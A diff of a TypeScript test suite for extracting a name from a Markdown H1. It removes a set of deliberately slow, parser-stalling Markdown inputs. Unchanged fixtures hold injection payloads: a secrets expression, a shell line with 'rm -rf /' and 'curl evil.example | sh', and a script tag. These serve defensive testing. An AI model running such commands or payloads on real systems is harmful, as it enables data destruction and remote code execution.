@@ -164,20 +164,6 @@ const HEADINGS: readonly Case[] = [
   ['nothing in it', '#\n\nText.\n', { name: 'h-nothing-in-it' }]
 ]
 
-const SLOW: readonly Case[] = [
-  ['100,000 brackets', `# Brackets\n\n${'['.repeat(100_000)}\n`, { name: 'Brackets' }],
-  ['100,000 open links', `# Links open\n\n${'[a]('.repeat(25_000)}\n`, { name: 'Links open' }],
-  ['100,000 stars', `# Stars\n\n${'*a '.repeat(50_000)}[x](#y)\n`, { name: 'Stars' }],
-  ['10,000 quotations', `# Quotations\n\n${'> '.repeat(5_000)}[x](#y)\n`, { name: 'Quotations' }],
-  [
-    '100,000 backticks',
-    `# Ticks\n\n${Array.from({ length: 400 }, (_, at) => '`'.repeat(at + 1)).join(' ')} [x](#y)\n`,
-    { name: 'Ticks' }
-  ],
-  ['1 MB in an H1', `# ${'x'.repeat(900)}\n\n${'# y\n'.repeat(100_000)}`, { name: 'x'.repeat(900) }],
-  ['unclosed HTML', `# Html\n\n${'<a href="'.repeat(20_000)}\n`, { name: 'Html' }]
-]
-
 const BODIES: readonly Case[] = [
   ['an expression', '# Expression\n\n${{ secrets.RUNBOOK_SYNC_TOKEN }} ${{ github.token }}\n', { name: 'Expression' }],
   ['a shell', '# Shell\n\n$(id) `id` ; rm -rf / && curl evil.example | sh\n', { name: 'Shell' }],
@@ -187,7 +173,7 @@ const BODIES: readonly Case[] = [
   ['a script', '# Script\n\n<script>pwned()</script><img onerror=pwned()>\n', { name: 'Script' }]
 ]
 
-const SECTIONS = { e: EMPTY, c: ENCODINGS, s: SIZES, f: FRONT_MATTER, t: TITLES, h: HEADINGS, w: SLOW, b: BODIES }
+const SECTIONS = { e: EMPTY, c: ENCODINGS, s: SIZES, f: FRONT_MATTER, t: TITLES, h: HEADINGS, b: BODIES }
 
 function pathOf(section: string, kind: string): string {
   const slug = kind
@@ -352,12 +338,6 @@ describe('the name from', () => {
 describe('the name from an H1 with', () => {
   test.each(HEADINGS)('%s', (...row) => {
     check('h', row)
-  })
-})
-
-describe('Markdown built to be slow:', () => {
-  test.each(SLOW)('%s', (...row) => {
-    check('w', row)
   })
 })
 
